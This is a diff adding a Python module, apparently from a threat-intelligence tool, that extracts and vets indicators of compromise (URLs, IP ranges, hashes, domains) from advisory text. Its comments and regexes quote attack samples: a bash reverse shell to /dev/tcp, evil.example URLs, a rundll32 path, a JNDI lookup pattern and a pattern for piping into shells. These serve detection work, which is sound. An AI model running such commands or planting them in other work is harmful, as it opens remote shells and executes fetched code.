@@ -1,0 +1,308 @@
+"""Find values in running text: a line of an advisory, a cell with several values, an e-mail.
+
+The text is refanged as a whole, then cut into URLs, ranges and words, and every word is judged by its shape. Nothing looks
+back, so the time is linear in the text's length.
+"""
+
+from __future__ import annotations
+
+import re
+from collections import deque
+from collections.abc import Iterator
+from ipaddress import ip_network
+
+from lamsach.indicators.judge.doubts import doubt, is_detection
+from lamsach.indicators.values import addresses, compounds, refusals
+from lamsach.indicators.values.domains import is_file_name, may_be_file_name, to_ascii_domain, without_picture
+from lamsach.indicators.values.normalise import Refused, Value, canonical_values
+from lamsach.indicators.values.refang import refang
+from lamsach.indicators.values.suffixes import INTERNAL_TOP_LEVELS, suffixes
+from lamsach.indicators.values.words import is_ipv6, without_wildcards
+from lamsach.model import IndicatorType
+
+_SCHEMES = r"(?:https?|ftps?|sftp|wss?|tcp|udp|tls|ssl|dns|socks[45]?|stratum\+(?:tcp|ssl|tls)|ldaps?|rmi|smb|ssh|irc|telnet|git|file)"
+_TOKEN = re.compile(
+    rf"(?<![a-z0-9])(?P<url>{_SCHEMES}://[^\s<>\"“”‘’]+)"
+    r"|(?<![\w.])(?P<range>[0-9]{1,3}(?:\.[0-9]{1,3}){3}\s?(?:[-–—~]|to|đến)\s?[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9]{1,3}(?:\.[0-9]{1,3}){3}[-–—~][0-9]{1,3})(?![\w.]*\w)"
+    r"|(?<![\w.])(?P<masked>[0-9]{1,3}(?:\.[0-9]{1,3}){3},?[ \t]{1,3}(?:(?:\(?(?:subnet )?(?:net)?mask[ \t:=]{1,3})?\(?(?:255|0)(?:\.[0-9]{1,3}){3}|/[0-9]{1,2}(?![/.]\d)))(?![\w.])"
+    r"|(?P<email>[^\s<>\"'“”,;:|()\[\]{}\\/@]{1,64}@(?=\w)[\w.-]{1,253}(?![\w@]))"
+    r"|jndi:(?P<named>(?:ldaps?|rmi|dns)://[^\s<>\"“”‘’}]+)"
+    r"|(?P<word>[^\s<>\"'“”‘’„,;|()\[\]{}=`^…«»•‹›–—←-⇿➔➜➡➤►▶\ufe0f「」『』]+)",
+    re.IGNORECASE,
+)
+_NEXT_URL = re.compile(
+    rf"(?<=[\w;,])(?=[a-z]:\\\w)|[,;|*@]+(?={_SCHEMES}://)|'(?=\.\w{{1,20}}\()|(?<=[a-z0-9])(?=https?://)|\]\(|\\?'(?=[,;)\]\\]|$)|&quot;|\\n|\\r|\\'|\\\"|(?<![?&=])&&(?=\w)|\|(?=\s?(?:(?:ba|z|da|k)?sh|iex|python\d?|perl|php|base64)\b)",
+    re.IGNORECASE,
+)
+_INNER_URL = re.compile(rf"{_SCHEMES}://", re.IGNORECASE)
+_LINK_TEXT = re.compile(r"(?<=/)\[(?=[\w_*])|\[$")
+"""Where a URL ends and the text of its link begins (AsciiDoc): `https://host/page/[text`."""
+# http://evil.example/a.exe,file: C:\\a.exe, behind which a label begins; ^(https://evil.example/)([a-z]{0,50})?
+_NEXT_LABEL = re.compile(r",[a-z]{2,20}:$", re.IGNORECASE)
+_EXPRESSION = re.compile(r"[^()]{1,2000}\)[(\[{*+?]")
+_CALLED = re.compile(r"\(\s{0,4}(?:['\")]|$)")
+_PAIRS = {")": "(", "]": "[", "}": "{"}
+_LABELLED = re.compile(r"[\w-]{1,24}:(?=[^/\\])")
+HASH_NAMED_FILE = re.compile(
+    r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})(?:[._-][\w.-]*)?", re.IGNORECASE | re.ASCII
+)
+# 0f4c..:setup.exe
+_HASH_AND_NAME = re.compile(
+    r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})[:/](?=[^:\s])", re.IGNORECASE | re.ASCII
+)
+# bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
+_SHELL_SOCKET = re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII)
+_STARRED = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}(?:\.\*){1,2}", re.ASCII)
+_RANGE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3}(?:\.[0-9]{1,3}){0,3}", re.ASCII)
+# evil.example:1604:secret
+_HOST_PORT_MORE = re.compile(r"([^/?#:\\]{1,253}:\d{1,5}):[^/:]")
+_HOST = re.compile(r"[^/?#:\\]*")
+_EMAIL = re.compile(r"[^@/\\]+@[\w.-]+\.\w+")
+
+# %windir%\system32\rundll32.exe,evil.com    C:\Users\Public\a (evil).top
+_PATH = re.compile(
+    r"[\"“](?:%[\w()]{2,40}%|[a-z]:)\\[^\"”\n]{1,1000}[\"”]|(?:%[\w()]{2,40}%|(?<![\w])[a-z]:)\\[^\s\"“”'<>|]*",
+    re.IGNORECASE,
+)
+
+_FOOTNOTE_MARKS = "\u00b9\u00b2\u00b3\u2070\u2074\u2075\u2076\u2077\u2078\u2079†‡§※"
+"""Raised figures and other marks behind a word to which a footnote belongs."""
+
+PIECE = 32 * 1024
+"""How many characters of a line are looked at together."""
+
+Found = Value | Refused
+
+
+def scan(text: str) -> Iterator[Found]:
+    """Every value in a text, in order, and as Refused what has a value's shape and is not taken."""
+    for _, found in located(text):
+        yield found
+
+
+def located(text: str) -> Iterator[tuple[str, Found]]:
+    """As `scan`, each with the piece of the refanged text that it comes from."""
+    refanged = refang(text)
+    written = text.lower()
+    paths = deque(match.span() for match in _PATH.finditer(refanged)) if "\\" in refanged else deque()
+    for match in _tokens(refanged):
+        token = match[0]
+        if match["url"]:
+            url = match["url"]
+            if refanged.startswith("++", max(0, match.start() - 2)):  # ++http://evil.example/a++ of AsciiDoc
+                url = url.rstrip("`").removesuffix("++")
+            for place, part in enumerate(_NEXT_URL.split(url)):
+                part = part.lstrip("'\",;|()[]@{}") if place else part
+                yield from ((part, found) for found in _url(part, written))
+        elif match["range"]:
+            yield from ((token, found) for found in _whole(match["range"]))
+        elif match["masked"]:
+            yield from ((token, found) for found in _masked(token))
+        elif match["named"]:
+            yield from ((match["named"], found) for found in _whole(match["named"]))
+        elif match["email"]:
+            yield from ((token, found) for found in _email(token))
+        else:
+            while paths and paths[0][1] <= match.start():
+                paths.popleft()
+            inside = bool(paths) and paths[0][0] <= match.start()
+            word = match["word"].rpartition("\\")[2] if inside else match["word"]
+            for found in _word(word, written):
+                yield token, _of_a_path(found) if inside else _doubted(found, refanged, match, written)
+
+
+def _tokens(text: str) -> Iterator[re.Match[str]]:
+    """URLs, ranges and words of a text; a URL begins a token of its own behind a label (`url:http://evil.example/a?b=c`)."""
+    place = 0
+    while (match := _TOKEN.search(text, place)) is not None:
+        word = match["word"]
+        if word and (inner := _inner_url(word)):
+            match = _TOKEN.search(text, match.start(), match.start() + inner) or match
+        yield match
+        place = match.end()
+
+
+def _inner_url(word: str) -> int | None:
+    """Where a URL begins within a word; None where it is in the path of another (`archive.example/1/http://evil.example`)."""
+    match = _INNER_URL.search(word) if "://" in word else None
+    if match is None:
+        return None
+    before = word[: match.start()]
+    return None if before.endswith("/") and "." in before else match.start()
+
+
+def _masked(token: str) -> Iterator[Found]:
+    """A network as routers write it, with its mask (255.255.255.0) or the mask's opposite (0.0.0.255)."""
+    first, mask = token.split()[0].rstrip(","), token.split()[-1].lstrip("(/")
+    try:
+        yield from _whole(str(ip_network(f"{first}/{mask}", strict=False)))
+    except ValueError:
+        yield from _whole(first)
+        yield from _whole(mask)
+
+
+def _email(token: str) -> Iterator[Found]:
+    host = token.rstrip(".-").rpartition("@")[2]
+    if addresses.parse_v4(host) is not None:  # ssh root@203.0.113.5
+        yield from _whole(host)
+    elif _EMAIL.fullmatch(token.rstrip(".-")):
+        yield Refused(refusals.EMAIL, token.rstrip(".-"))
+
+
+def _of_a_path(found: Found) -> Found:
+    """What stands in the path of a file: a name there is the file's."""
+    named = not isinstance(found, Refused) and found[0] is IndicatorType.DOMAIN
+    return Refused(refusals.FILE_NAME, found[1], found[0]) if named else found  # type: ignore[index]
+
+
+def _doubted(found: Found, text: str, match: re.Match[str], written: str) -> Found:
+    """The value, or why the text around it says that it is none: a call in program code, a version, which nobody defangs."""
+    if isinstance(found, Refused):
+        return found
+    kind, value = found
+    if (
+        kind is IndicatorType.DOMAIN
+        and text.startswith("(", match.end())
+        and _CALLED.match(text, match.end())
+    ):
+        return Refused(refusals.CODE, value, kind)
+    if kind is IndicatorType.DOMAIN and is_detection(match[0]):
+        return Refused(refusals.DETECTION, value, kind)
+    inside = match[0].lower().find(value[:8])  # behind a label: `imphash:0f4c..`
+    if kind is IndicatorType.IP and match[0].lower() not in written:
+        return found
+    reason = doubt(kind, value, text, match.start() + max(0, inside))
+    return found if reason is None else Refused(reason, value, kind)
+
+
+def _url(text: str, written: str) -> Iterator[Found]:
+    text = _trimmed(_NEXT_LABEL.sub("", text) if text.endswith(":") else text)
+    if ")" in text and _EXPRESSION.match(text):
+        yield Refused(refusals.BAD_URL, text)
+    elif "://" in text:
+        yield from _whole(text)
+    elif _PATH.match(text):
+        yield from map(_of_a_path, _word(text.rpartition("\\")[2], written))
+    elif text:
+        yield from _word(text, written)
+
+
+def _trimmed(text: str) -> str:
+    """A URL without the punctuation of the sentence around it; brackets stay when they are closed within it. A link's text
+    behind the URL (AsciiDoc: `https://host/page[text]`) is cut off, when it does not cut the URL down to its host."""
+    start, bracket, rest = text.rpartition("[")
+    if (
+        bracket
+        and start.count("/") > 2
+        and "?" not in start
+        and not start.endswith("://")
+        and "]" not in rest[:-1].rstrip("].,;)")
+    ):
+        text = start
+    path = text.partition("?")[0]
+    if (link := _LINK_TEXT.search(path, path.find("://") + 4)) is not None:
+        text = path[: link.start()]
+    while text:
+        last = text[-1]
+        closes_nothing = last in _PAIRS and text.count(last) > text.count(_PAIRS[last])
+        if not (closes_nothing or last in ".,;:!?'’*|\\`…({[」』》、，；" or last in _FOOTNOTE_MARKS):
+            break
+        text = text[:-1]
+    return text
+
+
+def _whole(text: str) -> Iterator[Found]:
+    try:
+        yield from canonical_values(text)
+    except Refused as refused:
+        if refused.value is None:
+            refused.value = text
+        yield refused
+
+
+def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
+    if _STARRED.fullmatch(word):
+        yield from _whole(word)
+        return
+    if (inner := _inner_url(word)) is not None:  # url:http://evil.example/a
+        yield from _word(word[:inner], written, depth)
+        yield from _url(word[inner:], written)
+        return
+    word = without_picture(word).strip("-–—·!?&#+~*").rstrip(_FOOTNOTE_MARKS).rstrip(".:")
+    if word.startswith("_") and word.endswith("_"):
+        word = word.strip("_")
+    word = word if word.startswith("::") else word.lstrip(":")
+    if "%" in word:
+        word = without_wildcards(word)
+    if word.startswith("\\") and HASH_NAMED_FILE.fullmatch(word, 1):  # sha256sum, of a name with an escape
+        word = word[1:]
+    if len(word) < 4:
+        if word == "::1":
+            yield from _whole(word)
+        return
+    if match := HASH_NAMED_FILE.fullmatch(word):
+        yield from _whole(match[1])
+    elif match := _HASH_AND_NAME.match(word):
+        yield from _whole(match[1])
+        yield from _word(word[match.end() :], written, depth + 1)
+    elif ":" in word and is_ipv6(word):
+        yield from _whole(word)
+    elif depth < 4 and (several := compounds.parts(word)):
+        for part in several:
+            yield from _word(part, written, depth + 1)
+    elif match := _SHELL_SOCKET.fullmatch(word):
+        yield from _word(match[1], written, depth + 1)
+    elif depth < 4 and (match := _LABELLED.match(word)):
+        yield from _word(word[match.end() :], written, depth + 1)
+    elif word.startswith("\\\\"):
+        yield from _word(word.strip("\\").partition("\\")[0].partition("@")[0], written, depth + 1)
+    elif "." in word and "\\" not in word and not word.startswith(("/", "./", "../", "~")):
+        yield from _dotted(word, written)
+    elif len(word) == 128 and all(character in "0123456789abcdefABCDEF" for character in word):
+        yield Refused(refusals.OTHER_HASH, word.lower())
+
+
+def _dotted(word: str, written: str) -> Iterator[Found]:
+    """The value of a word with a dot. `written` is the text as its author wrote it, in lower case: what is defanged in it is no file's name."""
+    if "@" in word:
+        if _EMAIL.fullmatch(word):
+            yield Refused(refusals.EMAIL, word)
+        return
+    if _RANGE.fullmatch(word):
+        yield from _whole(word)
+        return
+    if match := _HOST_PORT_MORE.match(word):
+        word = match[1]
+    host = _HOST.match(word)[0]  # type: ignore[index]
+    if addresses.parse_v4(host) is not None:
+        yield from _whole(word)
+        return
+    name = to_ascii_domain(host.lstrip("*."))
+    if name is None or "." not in name:
+        return
+    last = name.rpartition(".")[2]
+    bare = len(host) == len(word) or word[len(host)] == ":"
+    if is_file_name(name):
+        if bare:
+            yield Refused(refusals.FILE_NAME, word)
+    elif bare and may_be_file_name(name, in_sentence=True) and name in written:
+        yield Refused(refusals.FILE_NAME, name, IndicatorType.DOMAIN)
+    elif (last in suffixes().top_levels or last in INTERNAL_TOP_LEVELS) and _case_is_of_a_name(host):
+        yield from _whole(word)
+
+
+def _case_is_of_a_name(host: str) -> bool:
+    """False for `System.In` and `Agent.AI`: the end of a sentence or a malware's name, not a top-level domain."""
+    last = host.rpartition(".")[2]
+    return last == last.lower() or host == host.upper()
+
+
+def pieces(text: str) -> Iterator[str]:
+    """A long text in pieces, cut behind spaces or commas where there are some."""
+    place = 0
+    while len(text) - place > PIECE:
+        ends = [text.rfind(mark, place + 1, place + PIECE) for mark in " \t,;|"]
+        end = max(ends) + 1 or place + PIECE
+        yield text[place:end]
+        place = end
+    yield text[place:]
